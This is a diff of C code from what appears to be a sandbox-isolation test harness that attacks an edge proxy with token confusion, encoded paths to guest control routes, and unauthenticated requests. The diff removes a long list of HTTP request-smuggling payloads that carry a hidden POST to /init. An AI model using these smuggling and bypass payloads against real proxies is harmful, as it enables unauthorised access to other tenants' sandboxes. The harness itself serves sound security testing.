@@ -6,15 +6,13 @@
 enum {
 	REQUEST_MAX = 16 << 10,
 	RESPONSE_MAX = 1 << 20,
-	WAIT_MS = 3000,        /* for the end of a connection that is to be closed */
-	FRAMING_WAIT_MS = 400, /* for what may come behind an answer; most stay open */
+	WAIT_MS = 3000, /* for the end of a connection that is to be closed */
 };
 
 static const char confusion_title[] = "reach one sandbox with another's token";
 static const char control_title[] = "call the guest's control routes from outside";
 
-/* "HTTP/1.1 NNN": 0 when it is nothing of the kind. */
-static int status_of(struct str answer)
+int edge_status(struct str answer)
 {
 	int64_t status = 0;
 
@@ -24,9 +22,7 @@ static int status_of(struct str answer)
 	return (int)status;
 }
 
-/* One head with the names and tokens of both in it; %A %B are ids, %a %b tokens, %m the mark, %k
- * the length of the JSON that renews the attacker's own token, %j that JSON. */
-static void expand(const struct attack *a, const char *pattern, struct buf *out)
+void edge_expand(const struct attack *a, const char *pattern, struct buf *out)
 {
 	char json[CLI_TOKEN + 32];
 
@@ -73,7 +69,7 @@ static int send_pattern(struct attack *a, const char *pattern, int64_t wait_ms, 
 {
 	CLEANUP(buf_done) struct buf request = BUF_INIT(REQUEST_MAX);
 
-	expand(a, pattern, &request);
+	edge_expand(a, pattern, &request);
 	if (request.failed)
 		return err_set(e, -ENOBUFS, "too long");
 	return attack_raw(a, buf_str(&request), wait_ms, answer, e);
@@ -131,6 +127,9 @@ static const struct {
 		"GET " FILE_PATH "&signature=v1_%a HTTP/1.1\r\nHost: 49983-%B.localhost\r\n" END },
 };
 
+/* Not with that token, no such sandbox, or a head that nobody should send. */
+static const int not_yours[] = { 400, 401, 403, 404, 0 };
+
 static void confuse(struct attack *a)
 {
 	for (size_t i = 0; i < ARRAY_SIZE(confusions); i++) {
@@ -143,12 +142,14 @@ static void confuse(struct attack *a)
 				confusion_title, "%s: %s", confusions[i].name, e.msg);
 		else if (memmem(buf_str(&answer).p, answer.n, "\r\n\r\n", 4) &&
 			 strstr(strstr(answer.p, "\r\n\r\n"), a->mark) &&
-			 status_of(buf_str(&answer)) / 100 == 2)
+			 edge_status(buf_str(&answer)) / 100 == 2)
 			attack_say(a, "edge.confusion", "client", ATTACK_ESCAPED, confusion_title,
 				"%s: the neighbour's file came", confusions[i].name);
 		else
-			attack_say(a, "edge.confusion", "client", ATTACK_REFUSED, confusion_title,
-				"%s: status %d", confusions[i].name, status_of(buf_str(&answer)));
+			attack_say(a, "edge.confusion", "client",
+				attack_judge_status(0, edge_status(buf_str(&answer)), not_yours),
+				confusion_title, "%s: status %d", confusions[i].name,
+				edge_status(buf_str(&answer)));
 	}
 }
 
@@ -166,7 +167,7 @@ static bool can_succeed(struct attack *a)
 		return true;
 	attack_say(a, "edge.confusion", "client", ATTACK_INCONCLUSIVE, confusion_title,
 		"even the right token does not get the file: status %d %s",
-		status_of(buf_str(&answer)), e.msg);
+		edge_status(buf_str(&answer)), e.msg);
 	return false;
 }
 
@@ -176,6 +177,9 @@ static const char *const control_targets[] = { "/init", "/init/", "//init", "/./
 	"/%%69nit", "/%%69%%6e%%69%%74", "/init%%2f", "/init%%00", "/init?x=1", "/init#x", "/INIT",
 	"/init;x", "/init/.", "/files/../init", "http://localhost/init", "/freeze", "/unfreeze",
 	"/collapse", "/fsfreeze", "/fsthaw", "/upgrade", "\\init", "/init\\" };
+
+/* Refused by the proxy, or no such route or method of the guest. */
+static const int no_route[] = { 400, 403, 404, 405, 0 };
 
 static void control(struct attack *a)
 {
@@ -196,23 +200,18 @@ static void control(struct attack *a)
 			struct err e = { 0 };
 			int r = send_pattern(a, head, WAIT_MS, &answer, &e), status;
 
-			status = status_of(buf_str(&answer));
-			if (r < 0)
-				attack_say(a, "edge.control", "client", ATTACK_INCONCLUSIVE,
-					control_title, "%s: %s", control_targets[i], e.msg);
-			else if (status / 100 == 2)
-				attack_say(a, "edge.control", "client", ATTACK_ESCAPED,
-					control_title, "POST %s: status %d", control_targets[i],
-					status);
-			else
-				attack_say(a, "edge.control", "client", ATTACK_REFUSED,
-					control_title, "POST %s: status %d", control_targets[i],
-					status);
+			status = edge_status(buf_str(&answer));
+			attack_say(a, "edge.control", "client",
+				attack_judge_status(r, status, no_route), control_title,
+				"POST %s: status %d %s", control_targets[i], status,
+				r < 0 ? e.msg : "");
 		}
 	}
 }
 
 /* ---- without a key ---- */
+
+static const int no_key[] = { 401, 403, 0 };
 
 static void without_key(struct attack *a)
 {
@@ -231,12 +230,9 @@ static void without_key(struct attack *a)
 		struct err e = { 0 };
 		int r = send_pattern(a, heads[i], WAIT_MS, &answer, &e), status;
 
-		status = status_of(buf_str(&answer));
-		attack_say(a, "edge.key", "client",
-			r < 0 || status == 0 ? ATTACK_INCONCLUSIVE
-			: status / 100 == 2  ? ATTACK_ESCAPED
-					     : ATTACK_REFUSED,
-			title, "%.*s: status %d %s", (int)strcspn(heads[i], "\r"), heads[i], status,
+		status = edge_status(buf_str(&answer));
+		attack_say(a, "edge.key", "client", attack_judge_status(r, status, no_key), title,
+			"%.*s: status %d %s", (int)strcspn(heads[i], "\r"), heads[i], status,
 			e.msg);
 	}
 }
@@ -247,101 +243,4 @@ void attack_edge(struct attack *a)
 		confuse(a);
 	control(a);
 	without_key(a);
-}
-
-/* ---- framing ---- */
-
-#define TO_A                                                                   \
-	"Host: localhost\r\nE2b-Sandbox-Id: %A\r\nE2b-Sandbox-Port: 49983\r\n" \
-	"X-Access-Token: %a\r\n"
-/* What is smuggled: it works only where nobody looks at it but the guest. */
-#define INNER                                                                          \
-	"POST /init HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" \
-	"Content-Length: %k\r\n\r\n%j"
-
-static const struct {
-	const char *name, *bytes;
-} framings[] = {
-	{ "length and chunks", "POST /health HTTP/1.1\r\n" TO_A
-			       "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"
-			       "\r\n0\r\n\r\n" INNER },
-	{ "chunks and length", "POST /health HTTP/1.1\r\n" TO_A
-			       "Transfer-Encoding: chunked\r\nContent-Length: 400\r\n"
-			       "\r\n0\r\n\r\n" INNER },
-	{ "chunks twice", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n"
-			  "Transfer-Encoding: identity\r\n\r\n0\r\n\r\n" INNER },
-	{ "unknown coding", "POST /health HTTP/1.1\r\n" TO_A
-			    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" INNER },
-	{ "coding behind a tab",
-		"POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding:\tchunked\x0b\r\n"
-		"Content-Length: 5\r\n\r\n0\r\n\r\n" INNER },
-	{ "space before the colon", "POST /health HTTP/1.1\r\n" TO_A
-				    "Transfer-Encoding : chunked\r\nContent-Length: 5\r\n"
-				    "\r\n0\r\n\r\n" INNER },
-	{ "folded line", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding:\r\n chunked\r\n"
-			 "Content-Length: 5\r\n\r\n0\r\n\r\n" INNER },
-	{ "two lengths", "POST /health HTTP/1.1\r\n" TO_A
-			 "Content-Length: 0\r\nContent-Length: 400\r\n\r\n" INNER },
-	{ "length list", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: 0, 400\r\n\r\n" INNER },
-	{ "signed length", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: +0\r\n\r\n" INNER },
-	{ "negative length", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: -1\r\n\r\n" INNER },
-	{ "hexadecimal length",
-		"POST /health HTTP/1.1\r\n" TO_A "Content-Length: 0x0\r\n\r\n" INNER },
-	{ "huge chunk", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n\r\n"
-			"10000000000000000\r\n" INNER },
-	{ "negative chunk",
-		"POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n\r\n-1\r\n" INNER },
-	{ "chunk with a bare line feed", "POST /health HTTP/1.1\r\n" TO_A
-					 "Transfer-Encoding: chunked\r\n\r\n0;\n\r\n" INNER },
-	{ "bare line feeds", "GET /health HTTP/1.1\nHost: localhost\nE2b-Sandbox-Id: "
-			     "%A\nE2b-Sandbox-Port: 49983\n"
-			     "X-Access-Token: %a\n\n" INNER },
-	{ "header with a NUL", "GET /health HTTP/1.1\r\n" TO_A "X-A: a%0\r\nB: c\r\n\r\n" INNER },
-	{ "header with a carriage return", "GET /health HTTP/1.1\r\n" TO_A
-					   "X-A: a\rTransfer-Encoding: chunked\r\n\r\n" INNER },
-	{ "target with a line end",
-		"GET /health%%0d%%0a%%0d%%0aPOST%%20/init HTTP/1.1\r\n" TO_A "\r\n" INNER },
-	{ "HTTP/1.0 with chunks", "POST /health HTTP/1.0\r\n" TO_A
-				  "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" INNER },
-	{ "a body on GET", "GET /health HTTP/1.1\r\n" TO_A "Content-Length: 0\r\n\r\n" INNER },
-	{ "upgrade to websocket",
-		"GET /health HTTP/1.1\r\n" TO_A "Connection: Upgrade\r\nUpgrade: websocket\r\n"
-		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
-		"AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" INNER },
-	{ "upgrade to h2c", "GET /health HTTP/1.1\r\n" TO_A
-			    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
-			    "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" INNER },
-	{ "upgrade with a body",
-		"POST /health HTTP/1.1\r\n" TO_A "Connection: Upgrade\r\nUpgrade: anything\r\n"
-		"Content-Length: 0\r\n\r\n" INNER },
-	{ "CONNECT", "CONNECT localhost:49983 HTTP/1.1\r\n" TO_A "\r\n" INNER },
-	{ "expect without waiting", "POST /files?path=/tmp/a-x&username=user HTTP/1.1\r\n" TO_A
-				    "Expect: 100-continue\r\n"
-				    "Content-Length: 0\r\n\r\n" INNER },
-	{ "HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" INNER },
-};
-
-void attack_framing(struct attack *a)
-{
-	static const char title[] = "smuggle a request past the proxy";
-
-	for (size_t i = 0; i < ARRAY_SIZE(framings) && !attack_is_stopped(a); i++) {
-		CLEANUP(buf_done) struct buf answer = BUF_INIT(RESPONSE_MAX);
-		struct err e = { 0 };
-		int r = send_pattern(a, framings[i].bytes, FRAMING_WAIT_MS, &answer, &e);
-		const char *inner = strstr(buf_str(&answer).p, " 204 ");
-
-		/* /health answers 204, too: only what comes behind it is the smuggled one's. */
-		if (inner && status_of(buf_str(&answer)) == 204)
-			inner = strstr(inner + 1, " 204 ");
-		if (r < 0)
-			attack_say(a, "edge.framing", "client", ATTACK_INCONCLUSIVE, title,
-				"%s: %s", framings[i].name, e.msg);
-		else if (inner)
-			attack_say(a, "edge.framing", "client", ATTACK_ESCAPED, title,
-				"%s: the inner request was answered", framings[i].name);
-		else
-			attack_say(a, "edge.framing", "client", ATTACK_REFUSED, title,
-				"%s: status %d", framings[i].name, status_of(buf_str(&answer)));
-	}
 }
